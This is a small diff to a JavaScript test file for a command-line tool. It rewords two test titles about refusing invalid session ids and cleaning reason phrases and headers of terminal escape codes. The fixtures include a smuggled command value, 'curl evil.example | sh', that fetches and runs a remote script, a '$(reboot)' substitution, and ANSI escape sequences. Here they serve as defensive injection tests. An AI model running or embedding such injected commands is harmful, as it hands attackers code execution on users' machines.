@@ -101,7 +101,7 @@ test('the output of a task is cleaned for a terminal, and untouched in a pipe', 
   expect(piped.stdout).toBe(`${EVIL.toWellFormed()}\n`)
 })
 
-test('an id that is none is refused before it can be shown as a command to paste', async () => {
+test('an invalid id is refused before it can appear in a command to paste', async () => {
   const id = 'pbs_1; curl evil.example | sh #'
   const api = await startApi({
     'POST /v1/browser_sessions': { json: session({ browser_session_id: id }) },
@@ -133,7 +133,7 @@ test('an id that is none is refused before it can be shown as a command to paste
   expect((await cli.run(['task', 'wait', RUN_ID])).stderr).not.toContain('task wait $(reboot)')
 })
 
-test('a reason phrase and a header are no way around it', async () => {
+test('a reason phrase and a header are cleaned too', async () => {
   const reason = '\x1b[31mEvil\x07 \x9b2J'
   const server = createServer((socket) => {
     socket.once('data', () =>
